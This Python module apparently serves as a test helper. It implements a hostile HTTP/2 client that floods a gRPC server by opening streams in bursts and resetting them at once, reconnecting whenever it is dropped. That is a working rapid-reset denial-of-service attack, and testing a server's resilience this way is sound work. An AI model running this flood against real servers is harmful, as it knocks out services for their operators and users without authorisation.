"""A hostile peer: it opens streams over plain HTTP/2 and resets them at once."""

from __future__ import annotations

import socket
import threading
from contextlib import suppress
from types import TracebackType

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

_BURST = 50


class Resetting:
    """Opens and resets streams of a method as fast as it can, on one connection, for the block.

    Args:
        address: the server, host:port.
        rpc: the method's full name.
        secret: the API key.
        reset: whether streams are reset; else they stay open.
    """

    def __init__(self, address: str, rpc: str, secret: str, *, reset: bool = True) -> None:
        host, _, port = address.rpartition(":")
        self._address = (host, int(port))
        self._headers = [
            (":method", "POST"), (":scheme", "http"), (":path", f"/{rpc}"),
            (":authority", address), ("te", "trailers"),
            ("content-type", "application/grpc"), ("authorization", f"Bearer {secret}"),
        ]  # fmt: skip
        self._reset = reset
        self._over = threading.Event()
        self._thread = threading.Thread(target=self._run, name="resetting", daemon=True)
        self.opened = 0
        self.begun = threading.Event()

    def __enter__(self) -> Resetting:
        self._thread.start()
        assert self.begun.wait(30)
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        self._over.set()
        self._thread.join()

    def _run(self) -> None:
        while not self._over.is_set():
            try:
                with socket.create_connection(self._address, timeout=5) as peer:
                    self._attack(peer)
            except (OSError, h2.exceptions.ProtocolError):
                continue  # The server hung up on it; it comes back.

    def _attack(self, peer: socket.socket) -> None:
        connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        connection.initiate_connection()
        peer.sendall(connection.data_to_send())
        peer.settimeout(0.01)
        while not self._over.is_set():
            for _ in range(_BURST):
                if (
                    connection.open_outbound_streams
                    >= connection.remote_settings.max_concurrent_streams
                ):
                    break
                stream = connection.get_next_available_stream_id()
                connection.send_headers(stream, self._headers)
                if self._reset:
                    connection.send_data(stream, bytes(5))
                    connection.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                self.opened += 1
            peer.sendall(connection.data_to_send())
            if self.opened >= _BURST:
                self.begun.set()
            with suppress(TimeoutError):
                answer = peer.recv(65536)
                if not answer:
                    return
                connection.receive_data(answer)
            peer.sendall(connection.data_to_send())
